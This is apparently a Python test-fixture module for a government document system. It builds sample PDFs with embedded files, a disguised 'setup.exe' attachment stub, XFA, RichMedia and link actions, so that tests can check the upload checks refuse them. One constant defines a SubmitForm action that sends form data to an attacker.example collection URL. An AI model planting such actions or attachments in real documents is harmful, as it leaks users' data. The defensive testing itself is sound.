"""Sample files and a document maker shared by the documents and API tests."""

from __future__ import annotations

from typing import Any

from govdoc.accounts.models import Person, Unit
from govdoc.documents import services
from govdoc.documents.models import Document


def build_pdf(
    *objects: bytes, trailer: bytes = b"", header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
) -> bytes:
    """A well-formed PDF of these objects (object 1 is the catalogue), with a correct
    cross-reference table: only what the test puts in it can make it refused."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref_at,
    )
    return bytes(out)


def one_page_pdf(
    *, catalog_extra: bytes = b"", page_extra: bytes = b"", more: tuple[bytes, ...] = ()
) -> bytes:
    """One empty A4 page; ``catalog_extra``/``page_extra`` go into those dictionaries and
    ``more`` are objects 4, 5, ... they may refer to."""
    return build_pdf(
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b">>",
        *more,
    )


def text_pdf(text: str) -> bytes:
    """One page with one line of Helvetica text (latin-1)."""
    content = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    return one_page_pdf(
        page_extra=b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ",
        more=(
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        ),
    )


def embedded_file_pdf(data: bytes = b'{"jmbg": "0101990710123"}') -> bytes:
    """A PDF with a file in its /EmbeddedFiles name tree (and listed in /AF, as PDF/A-3 does)."""
    return one_page_pdf(
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(data.json) 4 0 R] >> >> /AF [4 0 R] ",
        more=(
            b"<< /Type /Filespec /F (data.json) /UF (data.json) /AFRelationship /Data /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Subtype /application#2Fjson /Length %d >>\nstream\n" % len(data)
            + data
            + b"\nendstream",
        ),
    )


def file_attachment_pdf() -> bytes:
    """A page with a /FileAttachment annotation (a paper-clip icon holding a program)."""
    program = b"MZ\x90\x00"
    return one_page_pdf(
        page_extra=b"/Annots [4 0 R] ",
        more=(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
            b"<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(program) + program + b"\nendstream",
        ),
    )


def xfa_pdf() -> bytes:
    """A form whose /AcroForm carries an XFA form (XML) besides its fields."""
    xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'
    return one_page_pdf(
        catalog_extra=b"/AcroForm << /Fields [] /XFA 4 0 R >> ",
        more=(b"<< /Length %d >>\nstream\n" % len(xdp) + xdp + b"\nendstream",),
    )


def action_pdf(action: bytes) -> bytes:
    """A page with a link whose action is ``action`` (the inside of its dictionary)."""
    return one_page_pdf(
        page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << " + action + b" >> >>] "
    )


SUBMIT_FORM = b"/S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> /Flags 4"
IMPORT_DATA = b"/S /ImportData /F (data.fdf)"
GO_TO_REMOTE = b"/S /GoToR /F << /FS /URL /F (https://elsewhere.example/other.pdf) >> /D [0 /Fit]"
GO_TO_EMBEDDED = b"/S /GoToE /T << /R /C /N (inner.pdf) >> /D [0 /Fit]"


def rich_media_pdf() -> bytes:
    """A page with a /RichMedia annotation (a Flash or video player)."""
    return one_page_pdf(
        page_extra=b"/Annots [4 0 R] ",
        more=(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] >>",),
    )


PDF = one_page_pdf()
PDF_CORRECTED = one_page_pdf(catalog_extra=b"/Lang (sr) ")
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
)


def create_document(*, unit: Unit, actor: Person, **overrides: Any) -> Document:
    fields: dict[str, Any] = {
        "agency": unit.agency,
        "owner_unit": unit,
        "author": actor,
        "title": "Rešenje o izdavanju lične karte",
        "doc_type": "resenje",
        "classification_code": "02-01",
        "disclosure": "public",
        "content": PDF,
        "filename": "resenje.pdf",
        "media_type": "application/pdf",
        "actor": actor,
    }
    fields.update(overrides)
    return services.document_create(**fields)
